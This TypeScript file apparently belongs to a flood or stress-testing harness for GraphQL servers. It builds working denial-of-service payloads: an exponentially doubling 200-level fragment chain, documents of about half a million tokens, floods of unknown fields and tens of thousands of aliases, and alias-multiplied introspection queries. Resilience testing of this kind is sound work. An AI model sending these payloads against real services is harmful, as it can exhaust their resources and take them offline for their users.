import { operations } from './flood.ts';

const aliases = (count: number, field: string) =>
  Array.from({ length: count }, (_, index) => `a${index}: ${field}`).join(' ');

/** Fragments that each spread the next one twice: to follow them all is to take 2^200 steps. */
const CHAIN = Array.from(
  { length: 200 },
  (_, level) => `fragment A${level} on Query { ...A${level + 1} ...A${level + 1} }`,
).join(' ');

const RICH =
  'fragment F on __Type { name description fields { name description args { name description type { ofType { name description } } } } }';

/** Attacks by what is to be read before anything is executed. */
export const DOCUMENT_ATTACKS = [
  operations(
    'exponential-fragments',
    (index) => `query Q${index} { ...A0 } ${CHAIN} fragment A200 on Query { __typename }`,
  ),
  operations('large-invalid-documents', (index) => `{ x${index} ${'a '.repeat(490_000)}}`),
  operations('unknown-fields', (index) => {
    const fields = Array.from({ length: 450 }, (_, place) => `certificatoin${index}x${place}`);
    return `{ ${fields.join(' ')} }`;
  }),
  operations('aliases', (index) => `query Q${index} { ${aliases(45_000, '__typename')} }`),
  operations(
    'introspection-by-aliases',
    (index) => `query Q${index} { __schema { ${aliases(300, 'types { ...F }')} } } ${RICH}`,
  ),
  operations(
    'introspection',
    (index) => `query Q${index} { __schema { ${aliases(2, 'types { ...F }')} } } ${RICH}`,
  ),
];
